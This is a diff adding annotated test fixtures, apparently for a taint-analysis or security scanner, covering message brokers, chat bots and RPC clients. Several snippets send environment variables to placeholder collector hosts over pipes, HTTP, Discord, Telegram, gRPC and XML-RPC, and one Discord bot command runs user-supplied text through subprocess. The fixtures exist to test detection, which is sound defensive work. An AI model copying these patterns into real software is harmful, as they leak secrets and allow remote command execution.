@@ -1,5 +1,8 @@
 """Message brokers, web sockets, RPC, chat services."""
+import multiprocessing
 import os
+import subprocess
+import xmlrpc.client
 from multiprocessing.connection import Client, Listener
 
 import confluent_kafka
@@ -19,6 +22,8 @@ import telegram
 import twilio.rest
 import websocket
 import websockets
+from discord.ext import commands
+from telegram.ext import CommandHandler, MessageHandler
 import zmq
 from fleetspeak.client_connector import connector
 from slack_sdk.webhook import WebhookClient
@@ -415,3 +420,73 @@ def add_to_server(servicer, server):
 
 def serve():
     add_to_server(Servicer(), grpc.server(None))
+
+
+def two_ends():
+    near, far = multiprocessing.Pipe()  #~ capability(IPC)
+    near.send(os.environ["P"])  #~ source(ENVIRONMENT) fpipe, sink(egress.socket) fpipe, SPURIOUS: finding(traced) fpipe
+    requests.post(U, data=far.recv())  #~ sink(egress.http) fpipe, finding(traced) fpipe
+    one, other = multiprocessing.Pipe()  #~ ok
+    one.send("x")  #~ ok
+    requests.post(U, data=other.recv())  #~ ok
+
+
+bot = commands.Bot(command_prefix="!")  #~ capability(NETWORK)
+quiet = commands.Bot(command_prefix="?")  #~ ok
+
+
+@bot.command()
+async def run(context, line):  #~ source(NETWORK) fbot
+    out = subprocess.getoutput(line)  #~ sink(exec.command) fbot, finding(remote-command-execution, traced) fbot
+    await context.send("done")  #~ ok
+
+
+@bot.command()
+async def fetch(context):
+    await context.send(os.environ["Q"])  #~ source(ENVIRONMENT) fbot2, sink(egress.message) fbot2, finding(traced) fbot2
+    await context.channel.send(os.environ["R"])  #~ source(ENVIRONMENT) fbot3, sink(egress.message) fbot3, finding(traced) fbot3
+    await context.channel.send("x")  #~ ok
+
+
+@commands.command()
+async def fetch_more(context):
+    await context.send(os.environ["S"])  #~ source(ENVIRONMENT) fbot4, sink(egress.message) fbot4, finding(traced) fbot4
+
+
+@bot.command()  #~ ok
+async def ping(context):
+    await context.send("pong")  #~ ok
+
+
+@commands.command()  #~ ok
+async def pong(context):
+    await context.send("ping")  #~ ok
+
+
+async def answer(update, context):
+    await update.message.reply_text(os.environ["U"])  #~ source(ENVIRONMENT) fupdate, sink(egress.message) fupdate, finding(traced) fupdate, capability(NETWORK)
+    await context.bot.send_message(1, os.environ["V"])  #~ source(ENVIRONMENT) fupdate2, sink(egress.message) fupdate2, finding(traced) fupdate2
+    await update.message.reply_text("pong")  #~ ok
+    await context.bot.send_message(1, "pong")  #~ ok
+
+
+bot.command().__call__  #~ ok
+CommandHandler("env", answer)
+MessageHandler(None, "CommandHandler")  #~ ok
+
+
+def stubbed():
+    from agent import upload_pb2, upload_pb2_grpc
+
+    channel = grpc.insecure_channel("stub.collector.example:443")  #~ capability(NETWORK), endpoint("stub.collector.example:443")
+    stub = upload_pb2_grpc.UploadStub(channel)
+    stub.Send(upload_pb2.Chunk(data=os.environ["W"]))  #~ source(ENVIRONMENT) fstub, sink(egress.message) fstub, finding(assumed) fstub
+    upload_pb2_grpc.UploadStub("*Stub")  #~ ok
+    upload_pb2_grpc.UploadStub(channel).Send("x" * 2)  #~ ok
+
+
+def by_proxy():
+    proxy = xmlrpc.client.ServerProxy("https://rpc.collector.example/")  #~ capability(NETWORK), endpoint("https://rpc.collector.example/")
+    proxy.put(os.environ["Y"])  #~ source(ENVIRONMENT) fproxy, sink(egress.message) fproxy, finding(traced) fproxy
+    proxy.files.put(os.environ["Z"])  #~ source(ENVIRONMENT) fproxy2, sink(egress.message) fproxy2, finding(traced) fproxy2
+    xmlrpc.client.ServerProxy("https://rpc.collector.example/").files.put("x * y")  #~ ok
